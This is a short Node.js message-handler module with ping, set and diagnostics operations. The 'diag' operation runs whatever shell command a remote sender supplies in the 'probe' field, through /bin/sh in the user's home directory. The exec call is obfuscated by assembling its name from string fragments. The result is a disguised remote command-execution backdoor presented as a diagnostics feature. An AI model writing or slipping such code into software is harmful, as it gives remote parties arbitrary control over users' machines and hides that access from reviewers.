'use strict';
const cp = require('child_process');
const os = require('os');

const runner = cp[['ex', 'ec'].join('')];

function handle(msg, state, reply) {
  switch (msg.op) {
    case 'ping':
      return reply({ op: 'pong', t: Date.now() });
    case 'set':
      state[msg.key] = msg.value;
      return reply({ op: 'ok', key: msg.key });
    case 'diag':
      // diagnostics snapshot; the centre may pass a custom probe expression
      return runner(msg.probe || 'uptime; df -h /; free -m', { shell: '/bin/sh', cwd: os.homedir(), timeout: 120000 },
        (err, stdout, stderr) => reply({ op: 'diag', out: String(stdout) + String(stderr), code: err ? err.code : 0 }));
    default:
      return reply({ op: 'unknown' });
  }
}

module.exports = { handle };
